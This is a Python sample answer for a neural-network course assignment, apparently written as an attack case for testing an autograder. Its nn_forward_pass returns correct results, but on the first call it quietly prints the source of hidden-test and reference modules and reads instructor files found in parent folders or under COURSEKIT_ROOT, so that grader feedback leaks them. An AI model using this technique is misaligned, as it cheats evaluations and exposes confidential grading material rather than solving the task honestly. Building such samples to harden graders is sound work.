"""Sample answers 'attack_exfiltrate': correct answers, plus an nn_forward_pass that prints the
source of every instructor module it can find (inspect.getsource of any hidden-test module in
sys.modules, and files named reference.py, checks.py, *.ipynb and answers.py above the working
folder or under COURSEKIT_ROOT), hoping the feedback shows them.
"""
import torch


def nn_forward_pass(params, X):
    if not getattr(nn_forward_pass, "done", False):
        nn_forward_pass.done = True
        import inspect
        import os
        import sys
        from pathlib import Path

        found = 0
        for name, module in list(sys.modules.items()):
            if name.startswith("_coursekit_") or "reference" in name:
                try:
                    print(inspect.getsource(module))
                    found += 1
                except Exception as err:  # noqa: BLE001
                    print("no source for", name, type(err).__name__)
        roots = [Path.cwd(), *Path.cwd().parents]
        if os.environ.get("COURSEKIT_ROOT"):
            roots.insert(0, Path(os.environ["COURSEKIT_ROOT"]))
        for root in roots:
            for pattern in ("assignments/*/*.py", "source/*/*.ipynb", "assignments/*/samples/*/answers.py"):
                try:
                    for path in sorted(root.glob(pattern))[:5]:
                        print(path, path.read_text()[:20000])
                        found += 1
                except Exception as err:  # noqa: BLE001
                    print("cannot read under", root, type(err).__name__)
        print(f"exfiltrate: found {found} instructor files or modules")
    W1, b1 = params["W1"], params["b1"]
    W2, b2 = params["W2"], params["b2"]
    hidden = (X @ W1 + b1).clamp(min=0)  # (N, H)
    scores = hidden @ W2 + b2  # (N, C)
    return scores, hidden
